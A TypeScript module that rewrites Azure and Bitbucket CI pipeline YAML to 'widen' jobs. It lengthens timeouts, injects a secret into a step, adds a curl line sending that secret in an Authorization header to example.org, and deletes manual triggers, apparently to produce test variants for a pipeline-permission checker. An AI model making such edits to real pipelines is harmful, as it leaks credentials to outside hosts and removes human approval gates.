import { isMap, isSeq } from 'yaml';
import type { Document, YAMLMap } from 'yaml';
import type { Widener } from './widening.js';
import { inYaml } from './widening.js';

/** A secret that no pipeline holds yet. */
const SECRET = 'WIDENED_TOKEN';

/** Jobs of Azure: a longer life, a secret. Whoever pushes to a branch may start them by hand already. */
export const widenAzureJob: Widener = ({ facts, lifetime }, text) => {
  const { job, stage } = facts.subject;
  const ifJob =
    (edit: (found: YAMLMap, document: Document) => boolean) =>
    (document: Document): boolean => {
      const found =
        job === undefined ? undefined : azureJob(document, job.slice(job.lastIndexOf('.') + 1), stage);
      return found !== undefined && edit(found, document);
    };
  return [
    ...inYaml(
      text,
      'life longer',
      ['lifetime'],
      ifJob((found) => {
        if (lifetime.seconds === null) return false;
        found.set('timeoutInMinutes', Math.ceil(lifetime.seconds / 60) * 2);
        return true;
      }),
    ),
    ...inYaml(
      text,
      'reach added',
      ['reach'],
      ifJob((found, document) => {
        const steps = found.get('steps');
        if (!isSeq(steps)) return false;
        steps.add(document.createNode({ script: './ship', env: { TOKEN: `$(${SECRET})` } }));
        return true;
      }),
    ),
  ];
};

/** A job where it is written: in a list of jobs, of the pipeline or of a stage. */
function azureJob(document: Document, job: string, stage: string | undefined): YAMLMap | undefined {
  const stages = document.get('stages');
  const lists = isSeq(stages)
    ? stages.items
        .filter(isMap)
        .flatMap((one) => (String(one.get('stage')) === stage ? [one.get('jobs')] : []))
    : [document.get('jobs')];
  const jobs = lists.flatMap((list) => (isSeq(list) ? list.items.filter(isMap) : []));
  return jobs.find((one) => one.get('job') === job);
}

/** Steps of Bitbucket: every branch, a longer life, a secret, no hand that starts it. */
export const widenBitbucketStep: Widener = ({ facts, lifetime }, text) => {
  const { pipeline, step } = facts.subject;
  const ifStep =
    (edit: (found: YAMLMap) => boolean) =>
    (document: Document): boolean => {
      const found = pipeline === undefined ? undefined : bitbucketStep(document, pipeline, step);
      return found !== undefined && edit(found);
    };
  return [
    ...inYaml(
      text,
      'life longer',
      ['lifetime'],
      ifStep((found) => {
        const minutes = lifetime.seconds === null ? 720 : Math.ceil(lifetime.seconds / 60) * 2;
        // The longest that there is: https://support.atlassian.com/bitbucket-cloud/docs/step-options/#Max-time
        if (minutes >= 720) return false;
        found.set('max-time', minutes);
        return true;
      }),
    ),
    ...inYaml(
      text,
      'reach added',
      ['reach'],
      ifStep((found) => {
        const script = found.get('script');
        if (!isSeq(script)) return false;
        script.add(`curl -H "Authorization: $${SECRET}" https://example.org`);
        return true;
      }),
    ),
    ...inYaml(
      text,
      'gate removed',
      ['gate', 'start'],
      ifStep((found) => found.get('trigger') === 'manual' && found.delete('trigger')),
    ),
  ];
};

/** A step by its name in a pipeline: `branches/main`. Those without a name are left. */
function bitbucketStep(document: Document, pipeline: string, step: string | undefined): YAMLMap | undefined {
  const [kind = '', ...rest] = pipeline.split('/');
  const path = rest.length === 0 ? ['pipelines', kind] : ['pipelines', kind, rest.join('/')];
  const steps = stepsIn(document.getIn(path));
  return steps.find((one) => one.get('name') === step);
}

/** Steps one by one, at once and in stages. */
function stepsIn(list: unknown): readonly YAMLMap[] {
  if (!isSeq(list)) return [];
  return list.items.filter(isMap).flatMap((item) => {
    const [own, together, stage] = [item.get('step'), item.get('parallel'), item.get('stage')];
    if (isMap(own)) return [own];
    return stepsIn(
      isMap(stage) || isMap(together) ? ((stage ?? together) as YAMLMap).get('steps') : together,
    );
  });
}
